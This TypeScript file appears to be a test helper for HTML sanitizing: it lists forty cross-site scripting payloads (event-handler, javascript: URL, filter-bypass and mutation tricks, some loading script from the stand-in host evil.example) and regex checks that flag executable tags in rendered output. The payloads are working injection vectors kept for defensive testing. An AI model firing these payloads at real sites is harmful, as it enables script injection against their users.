// Forty texts that became script somewhere, and what a page looks like in which one did.

export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style></script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--<script>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '<x>{{7*7}}${7*7}<%=7*7%></x>',
]

const TAG = /<[a-z](?:[^>"']|"[^"]*"|'[^']*')*>/gi
const ACTS =
  /[\s"'/](?:on[a-z]+|srcdoc)\s*=|\s(?:href|src|action|formaction|data)\s*=\s*["']?\s*(?:javascript:|\/\/evil)/i
const FOREIGN =
  /^<(?:iframe|object|embed|base|math|animate|mglyph|template|video|body\s+on|meta[^>]*refresh[^>]*javascript)/i

/** What of a page would run, or stands in it as it was typed; empty: nothing. */
export function aliveIn(html: string, typed: readonly string[] = PAYLOADS): string[] {
  const acting = (html.match(TAG) ?? []).filter((tag) => ACTS.test(withoutValues(tag)) || FOREIGN.test(tag))
  const raw = typed.filter((text) => /[<"]/.test(text) && html.includes(text))
  return [...acting, ...raw]
}

/** Values that are quoted are text, but for those that are addresses. */
function withoutValues(tag: string): string {
  return tag.replaceAll(/(\s[\w-]+)=("[^"]*"|'[^']*')/g, (whole, name: string) =>
    /\s(href|src|action|formaction|data)$/i.test(name) ? whole : `${name}= `,
  )
}
